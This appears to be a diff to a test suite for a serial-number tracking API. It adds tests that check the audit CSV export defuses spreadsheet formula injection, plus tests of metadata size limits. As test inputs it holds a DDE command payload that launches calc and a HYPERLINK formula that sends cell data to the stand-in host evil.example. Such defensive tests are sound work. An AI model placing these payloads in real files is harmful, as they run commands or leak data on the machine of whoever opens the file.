@@ -303,12 +303,46 @@ describe('audit', () => {
     expect(lines.at(-1)!.endsWith(entries.at(-1)!.hash)).toBe(true);
   });
 
+  it('defuses cells a spreadsheet would run as a formula in the CSV export, and keeps them exact in JSON', async () => {
+    const [serial] = (await generate('Widgets', {}, { 'serialtrace-station': "+cmd|' /C calc'!A0" })).serials;
+    const reason = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    expect((await t.call('POST', `/api/v1/records/${serial}/status`, { as: t.admin, body: { status: 'voided', reason } })).status).toBe(200);
+    const csv = (await t.call('GET', '/api/v1/audit/export', { as: auditor, query: { format: 'csv' } })).body;
+    const cells = csv.trimEnd().split('\n').slice(-2).join('\n');
+    expect(cells).toContain(`,'+cmd|' /C calc'!A0,`);
+    expect(cells).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`);
+    expect(csv).not.toMatch(/(^|,)[=+@-]/m);
+    const entries = (await t.call('GET', '/api/v1/audit/export', { as: auditor })).json as { reason: string | null; station: string | null }[];
+    expect(entries.at(-1)!.reason).toBe(reason);
+    expect(entries.at(-2)!.station).toBe("+cmd|' /C calc'!A0");
+  });
+
   it('verifies the chain, and names the first broken link after tampering', async () => {
     const valid = (await t.call('GET', '/api/v1/audit/verify', { as: auditor })).json;
     const count = (await t.call('GET', '/api/v1/audit/export', { as: auditor })).json.length;
     expect(valid).toMatchObject({ valid: true, checked: count, firstBreak: null, head: { seq: count } });
     t.raw().prepare("UPDATE audit_log SET actor = 'mallory' WHERE company_id = 1 AND seq = 3").run();
     const broken = (await t.call('GET', '/api/v1/audit/verify', { as: auditor })).json;
-    expect(broken).toMatchObject({ valid: false, checked: 2, firstBreak: { seq: 3, reason: 'hash_mismatch' } });
+    expect(broken).toMatchObject({ valid: false, checked: count, head: { seq: 2 }, firstBreak: { seq: 3, reason: 'hash_mismatch' } });
+  });
+});
+
+describe('what one request may write', () => {
+  it('refuses 16 KiB of metadata for 10,000 serials (160 MB of copies) with METADATA_TOO_LARGE, and writes nothing', async () => {
+    expect((await t.call('POST', '/api/v1/series', { as: engineer, body: { name: 'Bulk', format: 'B-{######}' } })).status).toBe(201);
+    const metadata = { blob: 'x'.repeat(16 * 1024 - 20) };
+    const answer = await t.call('POST', '/api/v1/series/Bulk/serials', { as: operator, body: { quantity: 10_000, metadata } });
+    const problem = expectProblem(answer, 422, 'METADATA_TOO_LARGE');
+    expect(problem).toMatchObject({ field: 'metadata', limit: 8 * 1024 * 1024 });
+    expect(problem.bytes).toBeGreaterThan(160_000_000);
+    expect((await t.call('GET', '/api/v1/series/Bulk/capacity', { as: operator })).json.value).toBe('0');
+    // The same metadata on a few records is fine; so is small metadata on many.
+    expect((await t.call('POST', '/api/v1/series/Bulk/serials', { as: operator, body: { quantity: 10, metadata } })).status).toBe(201);
+    expect((await t.call('POST', '/api/v1/series/Bulk/serials', { as: operator, body: { quantity: 10_000, metadata: { lot: 'L-42', line: 3 } } })).status).toBe(201);
+  });
+
+  it('refuses metadata over 16 KiB per record with METADATA_TOO_LARGE', async () => {
+    const answer = await t.call('POST', '/api/v1/series/Bulk/serials', { as: operator, body: { metadata: { blob: 'x'.repeat(17 * 1024) } } });
+    expect(expectProblem(answer, 422, 'METADATA_TOO_LARGE')).toMatchObject({ field: 'metadata', limit: 16 * 1024 });
   });
 });
